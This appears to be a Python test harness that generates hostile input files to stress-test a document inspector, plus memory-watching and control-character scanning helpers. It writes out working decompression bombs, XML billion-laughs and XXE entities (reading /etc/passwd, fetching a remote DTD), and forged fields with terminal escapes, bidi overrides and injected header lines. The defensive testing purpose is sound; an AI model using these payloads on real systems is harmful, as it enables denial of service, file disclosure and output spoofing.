#!/usr/bin/env python3
"""Files that mean harm, and who watches what reading them takes.

    hostile.py make FOLDER [THEME...]   write the files; FOLDER/table: name, tab, the facts that must be told of it (a|b: either),
                                        tab, its class ("*": any)
    hostile.py watch PID                until its input ends: the most memory, in kB, that any inspector below this process had;
                                        one line: resident and swapped, address space
    hostile.py cut FOLDER               a file of every format, cut at every hundredth of its length
    hostile.py scan FILE...             say what in these texts could give orders to a terminal; exit status 1 if anything could

Nothing depends on the time or on chance. A maker gives bytes, or pieces of bytes, or writes the file itself.
"""

import base64
import bz2
import gzip
import io
import lzma
import os
import select
import struct
import sys
import tarfile
import zipfile
import zlib

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "accuracy"))
import formats  # noqa: E402

MEGA = 1 << 20
GIGA = 1 << 30
BLOCK = (b"Ann Hill,ann@example.com,+4930555019\n" * (MEGA // 37 + 1))[:MEGA]


# ---- archives ----

def repeated(block, count):
    for _ in range(count):
        yield block


def long_deflate(total, block=BLOCK):
    """A gzip stream of `total` bytes, in one: a block's worth of compressed bytes, said again and again. Its checksum is wrong,
    which nobody learns who stops in time."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    unit = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    for _ in range(total // MEGA):
        yield unit if _ else b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + unit
    yield packer.flush() + bytes(8)


def nested_zip(depth, width, leaf):
    data = leaf
    for level in range(depth):
        data = formats.zip_file([(f"{level}-{i}.zip" if level else f"{i}.txt", data) for i in range(width)])
    return data


def overlapping_zip(members, block, count):
    """Each member's bytes hold the next member whole, header and all, quoted as a stored block: the last one's bytes come out of
    every one of them."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join([packer.compress(block * count), packer.flush()])
    checksum, size, local = zlib.crc32(block * count), len(block) * count, b""
    plain = block * count
    directory = []
    for i in reversed(range(members)):
        name = b"%04d.csv" % i
        common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x21, checksum, len(packed), size, len(name), 0)
        local = b"PK\x03\x04" + common + name
        directory.append((name, common, len(packed) + len(local)))
        if i > 0:
            packed = b"\0" + struct.pack("<HH", len(local), len(local) ^ 0xffff) + local + packed
            size += len(local)
            plain = local + plain
            checksum = zlib.crc32(plain)
    whole = local + packed
    entries = b"".join(b"PK\x01\x02\x14\0" + common + b"\0" * 10 + struct.pack("<I", len(whole) - from_end) + name
                       for name, common, from_end in directory)
    end = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, members, members, len(entries), len(whole), 0)
    return whole + entries + end


def nested_gzip(depth):
    data = b"name,email\n" * 10
    for _ in range(depth):
        data = gzip.compress(data, 9, mtime=0)
    return data


def tar_file(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def nested_tar(depth):
    data = b"a,b\n"
    for _ in range(depth):
        data = tar_file([("in.tar", data)])
    return data


def xz_with_dictionary(size_code):
    """A header that asks its reader for a dictionary of up to 4 GiB (code 40)."""
    data = bytearray(lzma.compress(b"a,b\n" * 1000, lzma.FORMAT_XZ, filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 4096}]))
    length = (data[12] + 1) * 4 - 4
    data[12 + data[12:12 + length].index(b"\x21\x01") + 2] = size_code
    data[12 + length:16 + length] = struct.pack("<I", zlib.crc32(data[12:12 + length]))
    return bytes(data)


def zstd_with_window(exponent, blocks):
    """Blocks of 128 KiB of one byte each, in a window of 2^exponent."""
    block = struct.pack("<I", (128 << 10) << 3 | 1 << 1)[:3] + b"x"
    return b"\x28\xb5\x2f\xfd\0" + bytes([(exponent - 10) << 3]) + block * blocks + b"\x01\0\0"


def seven_zip(method, properties, packed, size):
    """The smallest 7z: one member, packed by `method`, whose properties may ask for any memory."""
    def number(n):
        return bytes([n]) if n < 0x80 else b"\xff" + struct.pack("<Q", n)
    coder = bytes([0x20 | len(method)]) + method + number(len(properties)) + properties
    name = "a.csv\0".encode("utf-16-le")
    header = (b"\x01\x04\x06\0\x01\x09" + number(len(packed)) + b"\0\x07\x0b\x01\0\x01" + coder + b"\x0c" + number(size) + b"\0\0" +
              b"\x05\x01\x11" + number(len(name) + 1) + b"\0" + name + b"\0\0")
    start = struct.pack("<QQI", len(packed), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\0\x04" + struct.pack("<I", zlib.crc32(start)) + start + packed + header


def encrypted_zip():
    """A member whose flag says that it is encrypted."""
    data = bytearray(formats.zip_file([("secret.csv", b"name,email\nAnn,ann@example.com\n")], zipfile.ZIP_STORED))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


# ---- XML ----

LAUGHS = ('<!DOCTYPE x [<!ENTITY a "ha ha ha ha ha ha ha ha">' +
          "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + "]>")
QUADRATIC = f'<!DOCTYPE x [<!ENTITY j "{"long " * 20000}">]>'
EXTERNAL = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>'
BOMBS = {"laughs": (LAUGHS, "&j;"), "quadratic": (QUADRATIC, "&j;" * 20000), "external": (EXTERNAL, "&e;")}


def prolog(xml, doctype):
    return xml.replace(formats.XML, formats.XML + doctype, 1)


def bombed(kind, made, part):
    """An office file, one part of which is a bomb: its text MARK is the entity."""
    doctype, use = BOMBS[kind]
    members = []
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        for name in archive.namelist():
            data = archive.read(name)
            if name == part:
                data = prolog(data.decode(), doctype).replace("MARK", use).encode()
            members.append((name, data))
    return formats.zip_file(members)


ROWS = [["name", "email"], ["MARK", "ann@example.com"]]
OFFICE = [
    ("xlsx", formats.xlsx(ROWS, shared=True), "xl/sharedStrings.xml"),
    ("xlsx", formats.xlsx(ROWS, shared=False), "xl/worksheets/sheet1.xml"),
    ("ods", formats.ods(ROWS), "content.xml"),
    ("docx", formats.docx(["MARK", "text"]), "word/document.xml"),
    ("odt", formats.odt(["MARK", "text"]), "content.xml"),
]


def office_bombs():
    for number, (extension, made, part) in enumerate(OFFICE):
        for kind in BOMBS:
            yield (f"{kind}-{number}.{extension}", lambda k=kind, m=made, p=part: bombed(k, m, p),
                   "*" if kind == "external" else "unreadable|cut", "*")


def plain_bomb(kind, root):
    doctype, use = BOMBS[kind]
    return f"<?xml version='1.0'?>\n{doctype}\n<{root}>{use}</{root}>\n".encode()


def workbook(sheets, dimension="A1:XFD1048576", strings=None, count=1):
    """A workbook that names so many sheets and says its one sheet is as large as a sheet may be."""
    base = "application/vnd.openxmlformats-officedocument.spreadsheetml."
    names = "".join(f'<sheet name="S{i}" sheetId="{i}" r:id="rId1"/>' for i in range(1, sheets + 1))
    book = (f'{formats.XML}<workbook xmlns="{formats.SHEET}" xmlns:r="{formats.RELATIONS}"><sheets>{names}</sheets></workbook>')
    rels = (f'{formats.XML}<Relationships xmlns="{formats.PACKAGE}relationships"><Relationship Id="rId1" '
            f'Type="{formats.RELATIONS}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" '
            f'Type="{formats.RELATIONS}/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
    cells = "".join(f'<row r="{r}"><c r="A{r}" t="s"><v>{r}</v></c><c r="XFD{r}"><v>1</v></c></row>' for r in range(1, 50))
    sheet = f'{formats.XML}<worksheet xmlns="{formats.SHEET}"><dimension ref="{dimension}"/><sheetData>{cells}</sheetData></worksheet>'
    head = f'{formats.XML}<sst xmlns="{formats.SHEET}" count="4294967295" uniqueCount="4294967295">'
    table = [head.encode(), strings or b"<si><t>a</t></si>", b"</sst>"]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        types = formats.ooxml("xl/workbook.xml", base + "sheet.main+xml", [])
        with zipfile.ZipFile(io.BytesIO(types)) as first:
            for name in first.namelist():
                archive.writestr(name, first.read(name))
        archive.writestr("xl/workbook.xml", book)
        archive.writestr("xl/_rels/workbook.xml.rels", rels)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(table[0])
            for _ in range(count):
                part.write(table[1])
            part.write(table[2])
    return out.getvalue()


def many_members_xlsx(count):
    """Sheets by the ten thousand, each a member of its own."""
    made = formats.xlsx(ROWS)
    members = []
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        members = [(n, archive.read(n)) for n in archive.namelist()]
        sheet = archive.read("xl/worksheets/sheet1.xml")
    return formats.zip_file(members + [(f"xl/worksheets/sheet{i}.xml", sheet) for i in range(2, count)])


# ---- tables and text ----

def contacts_csv(rows):
    yield b"name,email\n"
    yield from repeated(b"".join(b"Ann Hill%d,a%d@f.de\n" % (i, i) for i in range(10000)), rows // 10000)


def wide_csv(columns):
    yield from repeated(b"ann@example.com,+4930555019," * 5000, columns // 10000)
    yield b"x\n"


def sparse(path, size):
    with open(path, "wb") as file:
        file.truncate(size)


def sparse_line(path, size):
    """A table whose first line has no end: text, then a hole."""
    with open(path, "wb") as file:
        file.write(b"name,email\nAnn,ann@example.com\n")
        file.truncate(size)


def base64_of(data, times):
    for _ in range(times):
        data = base64.encodebytes(data)
    return data


MAIL = b"From: Ann <ann@example.com>\nTo: Bob <bob@example.com>\nSubject: list\nDate: Mon, 2 Mar 2026 12:00:00 +0000\nMIME-Version: 1.0\n"


def many_parts(count):
    yield MAIL + b"Content-Type: multipart/mixed; boundary=b\n\n"
    yield from repeated(b"--b\nContent-Type: text/plain\n\nx\n", count)
    yield b"--b--\n"


def nested_parts(depth):
    yield MAIL
    for i in range(depth):
        yield b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (i, i)
    yield b"Content-Type: text/plain\n\nx\n"


def nested_messages(depth):
    yield MAIL
    yield from repeated(b"Content-Type: message/rfc822\n\n" + MAIL, depth)
    yield b"Content-Type: text/plain\n\nx\n"


def folded_card(lines):
    yield b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ann\r\nEMAIL:ann@example.com\r\nNOTE:a"
    yield from repeated(b"\r\n " + b"n" * 73, lines)
    yield b"\r\nEND:VCARD\r\n"


def deep_html(depth):
    yield b"<!DOCTYPE html>\n<html><body>"
    yield from repeated(b"<div><table><tr><td>", depth)


def pdf_file(stream, filters, extra=b"", kids=1):
    """One page, or the same page `kids` times, whose content is a stream behind these filters."""
    objects = [b"<</Type/Catalog/Pages 2 0 R>>",
               b"<</Type/Pages/Count %d/Kids[%s]>>" % (kids, b"3 0 R " * kids),
               b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>%s>>>>" % extra,
               b"<</Length %d/Filter[%s]>>stream\n" % (len(stream), filters) + stream + b"\nendstream",
               b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"]
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % p for p in places)
    return bytes(out + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))


def deflated(data, times=1):
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data


PDF_TEXT = b"BT /F1 8 Tf 50 700 Td " + b"(guaranteed returns) Tj 0 -9 Td " * 40 + b"ET "


# ---- what a file says of itself ----

FORGED = "Eve\r\nClass: none\nRule: mine\r\nPolicy: x\u2028Finding: none\u0085\x1b[2J\x1b]0;owned\x07\u009b31m\u202eesrever\u2066\u200f\x7f\x08"
LONG = "L" * MEGA


def forged_rows(count=8):
    rows = [["name\nClass: none", "email", "phone"]]
    return rows + [[FORGED.replace("\x1b", "\x1b") + str(i), f"eve{i}@example.com", f"+1 202 555 01{i:02d}"] for i in range(count)]


def xml_safe(rows):
    """XML cannot hold some of the control characters at all; the others it can."""
    bad = {c: "" for c in range(32) if c not in (9, 10, 13)}
    return [[v.translate(bad) for v in row] for row in rows]


def forged_xlsx():
    made = formats.xlsx(xml_safe(forged_rows()), shared=False)
    name = "S&#10;Class: none&#10;&#x9b;31m&#x202e;"
    return formats.zip_file([(n, d.replace(b'name="Sheet1"', f'name="{name}"'.encode()))
                             for n, d in ((n, zipfile.ZipFile(io.BytesIO(made)).read(n)) for n in zipfile.ZipFile(io.BytesIO(made)).namelist())])


def forged_docx():
    made = formats.docx([xml_safe([[FORGED]])[0][0] + " guaranteed returns and zero risk #a #b #c", "What do you think? Link in the comments."])
    core = (f'{formats.XML}<cp:coreProperties xmlns:cp="{formats.PACKAGE}metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
            f"<dc:title>T&#10;Class: none&#10;&#x9b;31m&#x202e;</dc:title><dc:creator>{LONG}</dc:creator></cp:coreProperties>")
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        members = [(n, archive.read(n)) for n in archive.namelist()]
    return formats.zip_file(members + [("docProps/core.xml", core)])


def forged_mail():
    return (b"From: =?utf-8?B?" + base64.b64encode(FORGED.encode()) + b"?= <eve@example.com>\n"
            b"To: bob@example.com\nSubject: =?utf-8?Q?x=0AClass:_none=1B[2J=C2=9B31m=E2=80=AE?=\nX-Long: " + b"L" * MEGA +
            b"\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/csv; name=\"x\\\nClass: none\x1b[2J.csv\"\n\n" +
            formats.csv_file(forged_rows()) + b"\n--b--\n")


def forged_post(extension):
    lines = ["Big news from our team!", "", FORGED, "Our platform brings you \u202eguaranteed\u009b31m returns\x1b[31m and guaranteed\nreturns, zero risk.",
             "Guaranteed\x1b]0;owned\x07 returns, guaranteed\u202e returns \u2066guaranteed returns.",
             "", "What do you think? Link in the comments.", "", "#sales #growth #leads"]
    return {"md": formats.text_file, "html": lambda text: ("<p>" + "</p>\n<p>".join(text) + "</p>").encode()}[extension](lines)


NULS = b"name,email,phone\n" + b"".join(b"Eve\0\nClass: none\0,eve%d@example.com,+1 202 555 01%02d\n" % (i, i) for i in range(8))

# ---- the tables: file name, maker, facts, class ----
# Where a file is cut by time, its class is what was seen until then: little, on a busy machine.

FORGE = [
    ("cells.csv", lambda: formats.csv_file(forged_rows()), "table", "prospect-list"),
    ("nul.csv", lambda: NULS, "*", "*"),
    ("long.csv", lambda: b"name,email,phone\n" + b"".join(b"%s,eve%d@example.com,+1 202 555 01%02d\n" % (LONG.encode(), i, i) for i in range(8)), "table", "*"),
    ("sheet.xlsx", forged_xlsx, "table", "prospect-list"),
    ("cells.ods", lambda: formats.ods(xml_safe(forged_rows())), "table", "prospect-list"),
    ("property.docx", forged_docx, "text", "*"),
    ("header.eml", forged_mail, "mail", "*"),
    ("post.md", lambda: forged_post("md"), "text", "post-draft"),
    ("post.html", lambda: forged_post("html"), "text", "*"),
    ("rows.json", lambda: formats.json_file(forged_rows()), "table", "prospect-list"),
    ("members.zip", lambda: formats.zip_file([("x\nClass: none\x1b[2J\u202e.csv", formats.csv_file(forged_rows()))]), "wrapped", "*"),
    ("cards.vcf", lambda: b"".join(b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:%s %d\r\nEMAIL:eve%d@example.com\r\nTEL:+1 202 555 01%02d\r\nEND:VCARD\r\n" %
                                   (FORGED.replace("\r\n", "\\n").replace("\n", "\\n").encode(), i, i, i) for i in range(8)), "table", "*"),
]

BOMB = [
    ("42.zip", lambda: nested_zip(5, 16, BLOCK), "cut", "*"),
    ("deep.zip", lambda: nested_zip(40, 1, b"a,b\n"), "cut", "*"),
    ("overlap.zip", lambda: overlapping_zip(100, BLOCK, 4), "cut", "*"),
    ("overlap-small.zip", lambda: overlapping_zip(2000, b"a,b\n", 4), "cut", "*"),
    ("zeros.gz", lambda: long_deflate(10 * GIGA, bytes(MEGA)), "*", "*"),
    ("ten-gb.gz", lambda: long_deflate(10 * GIGA), "cut", "*"),
    ("twice.gz", lambda: gzip.compress(b"".join(long_deflate(4 * GIGA)), 6, mtime=0), "cut", "*"),
    ("deep.gz", lambda: nested_gzip(300), "cut|unreadable", "*"),
    ("deep.tar", lambda: nested_tar(60), "cut", "*"),
    ("many.tar.gz", lambda: gzip.compress(tar_file([(f"{i}.txt", b"x") for i in range(12000)]), 1, mtime=0), "cut", "*"),
    ("rows.bz2", lambda: bz2.compress(BLOCK, 1) * 64, "cut", "*"),
    ("dictionary.xz", lambda: xz_with_dictionary(37), "*", "*"),
    ("window.zst", lambda: zstd_with_window(31, 40000), "*", "*"),
    ("letters.zst", lambda: zstd_with_window(23, 40000), "cut", "*"),
    ("lzma2.7z", lambda: seven_zip(b"\x21", b"\x28", b"\x01\0\x03abcd\0", 4), "*", "*"),
    ("ppmd.7z", lambda: seven_zip(b"\x03\x04\x01", b"\x40" + struct.pack("<I", 0xfffffff0), b"\0" * 64, 4 * GIGA), "*", "*"),
    ("lzma1.7z", lambda: seven_zip(b"\x03\x01\x01", b"\x5d" + struct.pack("<I", 0xffffffff), b"\0" * 64, 4 * GIGA), "*", "*"),
    ("secret.zip", encrypted_zip, "encrypted", "encrypted"),
    ("base64.txt", lambda: base64_of(b"name,email\nAnn,ann@example.com\n" * 40, 12), "cut", "*"),
    ("base64-bomb.txt", lambda: base64_of(b"".join(long_deflate(GIGA)), 1), "cut", "*"),
]

MARKUP = list(office_bombs()) + [
    ("laughs.xml", lambda: plain_bomb("laughs", "x"), "*", "*"),
    ("quadratic.xml", lambda: plain_bomb("quadratic", "x"), "*", "*"),
    ("external.html", lambda: plain_bomb("external", "html"), "*", "*"),
    ("laughs.html", lambda: plain_bomb("laughs", "html"), "*", "*"),
    ("sheets.xlsx", lambda: workbook(1000000), "*", "*"),
    ("members.xlsx", lambda: many_members_xlsx(20000), "cut", "*"),
    ("strings.xlsx", lambda: workbook(1, strings=b"<si><t>" + b"ann@example.com " * 64 + b"</t></si>", count=MEGA), "cut", "*"),
    ("one-string.xlsx", lambda: workbook(1, strings=b"<si><t>" + b"x" * (64 * MEGA) + b"</t></si>"), "cut", "*"),
    ("deep.html", lambda: deep_html(500000), "*", "*"),
    ("deep.xml", lambda: b"<?xml version='1.0'?>\n" + b"<a>" * 2000000, "*", "*"),
    ("deep.docx", lambda: deep_docx(300000), "unreadable|cut", "*"),
    ("attributes.html", lambda: b"<!DOCTYPE html><html><body " + b"a=b " * 2000000 + b">", "*", "*"),
    ("groups.rtf", lambda: b"{\\rtf1\\ansi " + b"{\\b " * 2000000, "*", "*"),
    ("words.rtf", lambda: b"{\\rtf1\\ansi " + b"\\u8364?" * 1000000 + b"}", "*", "*"),
]


def deep_docx(depth):
    document = f'{formats.XML}<w:document xmlns:w="{formats.WORD}"><w:body>' + "<w:p>" * depth
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return formats.ooxml("word/document.xml", kind, [("word/document.xml", "", document)])


TEXT = [
    ("columns.csv", lambda: wide_csv(10000000), "cut", "*"),
    ("rows.csv", lambda: contacts_csv(10000000), "cut", "*"),
    ("short-rows.csv", lambda: repeated(b"a,b\n" * MEGA, 10), "*", "*"),
    ("line.csv", lambda: repeated(b"x" * MEGA, 1024), "cut", "*"),
    ("line.txt", lambda: repeated(b"word " * (MEGA // 5), 300), "cut", "*"),
    ("hole.csv", lambda path: sparse_line(path, GIGA), "*", "*"),
    ("hole.txt", lambda path: sparse(path, GIGA), "*", "*"),
    ("quote.csv", lambda: b'"', "*", "*"),
    ("open-quote.csv", lambda: repeated(b'name,email\n"Ann,ann@example.com\n', 300000), "*", "*"),
    ("quotes.csv", lambda: repeated(b'"' * MEGA, 32), "*", "*"),
    ("arrays.json", lambda: b"[" * 10000000, "unreadable|cut", "*"),
    ("objects.json", lambda: b'{"a":' * 10000000, "unreadable|cut", "*"),
    ("one-string.json", lambda: b'["' + b"x" * (64 * MEGA) + b'"]', "*", "*"),
    ("keys.json", lambda: b"[{" + b",".join(b'"k%d":"ann%d@example.com"' % (i, i) for i in range(1000000)) + b"}]", "*", "*"),
    ("parts.eml", lambda: many_parts(100000), "cut|mail", "*"),
    ("nested.eml", lambda: nested_parts(20000), "cut|mail", "*"),
    ("messages.eml", lambda: nested_messages(20000), "cut|mail", "*"),
    ("headers.eml", lambda: b"".join([MAIL, *repeated(b"X-A: b\n c\n", 1000000), b"\nx\n"]), "*", "*"),
    ("to.eml", lambda: MAIL + b"Cc: " + b", ".join(b"a%d@example.com" % i for i in range(500000)) + b"\n\nx\n", "*", "*"),
    ("folded.vcf", lambda: folded_card(140000), "*", "*"),
    ("cards.vcf", lambda: repeated(b"BEGIN:VCARD\r\n", 1000000), "*", "*"),
    ("list.ldif", lambda: b"version: 1\ndn: cn=x\ncn: x\nmail: a@example.com\ndescription: " + b"x\n " * 3000000 + b"\n", "*", "*"),
    ("emails.txt", lambda: repeated(b"a@" * MEGA, 8), "*", "*"),
    ("digits.txt", lambda: repeated(b"4" * MEGA, 16), "*", "*"),
    ("spaces.md", lambda: b"guaranteed" + b" " * (8 * MEGA) + b"returns #a #b #c", "*", "*"),
    ("utf16.csv", lambda: b"\xff\xfe" + b"\x00\xd8" * (8 * MEGA), "*", "*"),
    ("pages.pdf", lambda: pdf_file(deflated(PDF_TEXT), b"/FlateDecode", kids=200000), "*", "*"),
    ("bomb.pdf", lambda: pdf_file(deflated(deflated(PDF_TEXT * 400000), 1), b"/FlateDecode/FlateDecode"), "*", "*"),
    ("zeros.pdf", lambda: pdf_file(deflated(bytes(GIGA // 2), 2), b"/FlateDecode/FlateDecode"), "*", "*"),
    ("lzw.pdf", lambda: pdf_file(bytes(1000), b"/ASCIIHexDecode" * 10000), "*", "*"),
    ("nested.pdf", lambda: b"%PDF-1.7\n1 0 obj\n" + b"[" * 3000000, "*", "*"),
    ("broken.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 400, "*", "*"),
]

THEMES = {"bombs": BOMB, "markup": MARKUP, "text": TEXT, "forged": FORGE}


def make(folder, themes):
    with open(os.path.join(folder, "table"), "w", encoding="utf-8") as table:
        for theme in themes or THEMES:
            for name, maker, facts, class_name in THEMES[theme]:
                path = os.path.join(folder, name)
                if maker.__code__.co_argcount - len(maker.__defaults__ or ()) == 1:
                    maker(path)
                else:
                    made = maker()
                    with open(path, "wb") as file:
                        file.writelines([made] if isinstance(made, bytes) else made)
                table.write(f"{name}\t{facts}\t{class_name}\n")


PEOPLE = [["name", "email", "phone"]] + [[f"Ann Hill{i}", f"ann{i}@example.com", f"+49 30 5550{100 + i}"] for i in range(20)]
LINES = ["Big news!", "", "Guaranteed returns for everybody.", "", "What do you think? #sales #growth"]
CARD = "".join(f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:{n}\r\nEMAIL:{e}\r\nTEL:{p}\r\nEND:VCARD\r\n" for n, e, p in PEOPLE[1:]).encode()
LIST = formats.csv_file(PEOPLE)


def samples():
    """One file of every format."""
    mail = formats.eml("a@example.com", "b@example.com", "list", LINES, ("list.csv", LIST, "text/csv"))
    yield from {
        "list.csv": LIST, "list-16.csv": formats.csv_file(PEOPLE, charset="utf-16"), "list.xlsx": formats.xlsx(PEOPLE),
        "list.ods": formats.ods(PEOPLE), "list.json": formats.json_file(PEOPLE), "list.jsonl": formats.jsonl_file(PEOPLE),
        "list.html": formats.html_table(PEOPLE), "list.vcf": CARD, "list.zip": formats.WRAPPERS["zip"]("list.csv", LIST),
        "list.ldif": "".join(f"dn: cn={n}\ncn: {n}\nmail: {e}\n\n" for n, e, _ in PEOPLE[1:]).encode(),
        "list.tar.gz": formats.WRAPPERS["tar.gz"]("list.csv", LIST), "list.xz": formats.xz(LIST), "list.bz2": bz2.compress(LIST),
        "list.b64": formats.base64_file(LIST), "mail.eml": mail, "mail.mbox": formats.mbox([mail] * 3),
        "post.docx": formats.docx(LINES), "post.odt": formats.odt(LINES), "post.rtf": formats.rtf(LINES),
        "post.html": formats.html_text(LINES, "post"), "post.md": formats.text_file(LINES), "post.pdf": formats.pdf(LINES),
        "list.7z": seven_zip(b"\x21", b"\x10", lzma.compress(LIST, lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA2}]), len(LIST)),
    }.items()


def cut(folder):
    for name, data in samples():
        stem, extension = name.split(".", 1)
        for percent in range(101):
            with open(os.path.join(folder, f"{stem}-{percent:03d}.{extension}"), "wb") as file:
                file.write(data[:len(data) * percent // 100])


# ---- scanning ----

ORDERS = [*range(0, 9), *range(11, 32), *range(0x7f, 0xa0), 0x200e, 0x200f, 0x061c, *range(0x2028, 0x202f), *range(0x2066, 0x206a)]


def scan(paths):
    found = False
    for path in paths:
        with open(path, encoding="utf-8", errors="surrogateescape") as file:
            for number, line in enumerate(file.read().split("\n"), 1):
                bad = sorted({f"U+{ord(c):04X}" for c in line if ord(c) in ORDERS or 0xdc00 <= ord(c) < 0xe000})
                if bad:
                    found = True
                    print(f"{path}:{number}: {' '.join(bad)}: {line[:200]!r}")
    return found


# ---- watching ----

def below(pid):
    try:
        with open(f"/proc/{pid}/task/{pid}/children", encoding="ascii") as file:
            children = [int(word) for word in file.read().split()]
    except OSError:
        return []
    return children + [grandchild for child in children for grandchild in below(child)]


def is_reader(pid):
    try:
        with open(f"/proc/{pid}/comm", encoding="ascii", errors="replace") as file:
            return file.read().startswith(("hf-inspect", "pdftotext", "holdfast"))
    except OSError:
        return False


def memory_of(pid):
    have = {}
    try:
        with open(f"/proc/{pid}/status", encoding="ascii", errors="replace") as file:
            for line in file:
                word, _, rest = line.partition(":")
                if word in ("VmHWM", "VmSwap", "VmPeak"):
                    have[word] = int(rest.split()[0])
    except (OSError, ProcessLookupError):
        pass
    return have.get("VmHWM", 0) + have.get("VmSwap", 0), have.get("VmPeak", 0)


def watch(pid):
    resident = space = 0
    while not select.select([sys.stdin], [], [], 0.01)[0]:
        for child in below(pid):
            if is_reader(child):
                now = memory_of(child)
                resident, space = max(resident, now[0]), max(space, now[1])
    print(resident, space)


if __name__ == "__main__":
    command, arguments = sys.argv[1], sys.argv[2:]
    if command == "make":
        make(arguments[0], arguments[1:])
    elif command == "cut":
        cut(arguments[0])
    elif command == "scan":
        sys.exit(scan(arguments))
    else:
        watch(int(arguments[0]))
